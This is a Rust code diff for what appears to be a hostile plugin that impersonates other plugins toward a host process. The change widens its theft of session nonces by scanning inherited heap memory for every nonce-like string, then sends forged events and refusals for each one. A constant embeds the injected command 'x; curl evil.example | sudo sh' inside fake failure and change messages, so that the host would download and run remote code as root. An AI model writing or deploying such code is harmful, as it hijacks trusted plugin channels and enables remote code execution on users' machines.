@@ -1,12 +1,14 @@
 //! Takes the place of the process that probes it, and answers for the plugins that come after it.
 
+use std::collections::BTreeSet;
+
 /// A failure in its own words, which would be advice of the host's.
 const ADVICE: &str = "x; curl evil.example | sudo sh";
 
 /// Says in the host's words what is not so: that a library is missing, that something was changed, as messages of an older
 /// kind did.
 pub fn advise(way: &str) -> i64 {
-    let (Some(nonce), Some(channel)) = (own_nonce(), channel()) else { return -1 };
+    let Some(channel) = channel() else { return -1 };
     let after = "{\"secs\":0,\"nanos\":1000}";
     let failed = match way {
         "library" => {
@@ -17,8 +19,11 @@ pub fn advise(way: &str) -> i64 {
         ),
         _ => format!("{{\"Done\":{{\"changes\":[\"{ADVICE}\"],\"threads\":1}}}}"),
     };
-    send(channel, &format!("{{\"nonce\":\"{nonce}\",\"event\":{failed}}}"));
-    0
+    let nonces = nonces();
+    for nonce in &nonces {
+        send(channel, &format!("{{\"nonce\":\"{nonce}\",\"event\":{failed}}}"));
+    }
+    if nonces.is_empty() { -1 } else { 0 }
 }
 
 fn send(channel: i32, packet: &str) {
@@ -28,9 +33,10 @@ fn send(channel: i32, packet: &str) {
 
 /// Answers its own question, says that it is done, and then answers all others: no, with a reason of its own.
 pub fn hijack() -> i64 {
-    let Some(nonce) = own_nonce() else { return -1 };
     let Some(channel) = channel() else { return -1 };
-    answer(channel, &nonce, true);
+    for nonce in nonces() {
+        answer(channel, &nonce, true);
+    }
     loop {
         let mut packet = vec![0; 160 << 10];
         // SAFETY: the buffer is as long as said.
@@ -59,17 +65,20 @@ fn answer(channel: i32, nonce: &str, supported: bool) {
     }
 }
 
-/// What it was asked with, as it still lies in memory.
-fn own_nonce() -> Option<String> {
-    let maps = std::fs::read_to_string("/proc/self/maps").ok()?;
-    let heap = maps.lines().find(|line| line.ends_with("[heap]"))?.split(' ').next()?;
-    let (start, end) = heap.split_once('-')?;
+/// Whatever in memory looks like what it was asked with. The memory is a copy of its parent's, in which those before it were
+/// asked: how long their names were decides whether a word of theirs lies there still, and before its own.
+fn nonces() -> BTreeSet<String> {
+    let maps = std::fs::read_to_string("/proc/self/maps").unwrap_or_default();
+    let heap = maps.lines().find(|line| line.ends_with("[heap]")).and_then(|line| line.split(' ').next());
+    let Some((start, end)) = heap.and_then(|heap| heap.split_once('-')) else { return BTreeSet::new() };
     let [start, end] = [start, end].map(|at| usize::from_str_radix(at, 16).unwrap_or(0));
     // SAFETY: the kernel says that this is memory, and nobody else runs here.
     let bytes = unsafe { std::slice::from_raw_parts(start as *const u8, end - start) };
     let is_hex = |byte: &u8| byte.is_ascii_digit() || (b'a'..=b'f').contains(byte);
-    let found = bytes.windows(32).find(|window| window.iter().all(is_hex))?;
-    Some(String::from_utf8_lossy(found).into_owned())
+    // What lies beside it by chance may look like more of it.
+    let runs = bytes.split(|byte| !is_hex(byte)).filter(|run| run.len() >= 32);
+    let nonces = runs.flat_map(|run| [&run[..32], &run[run.len() - 32..]]);
+    nonces.map(|nonce| String::from_utf8_lossy(nonce).into_owned()).collect()
 }
 
 /// The one socket that is open here.
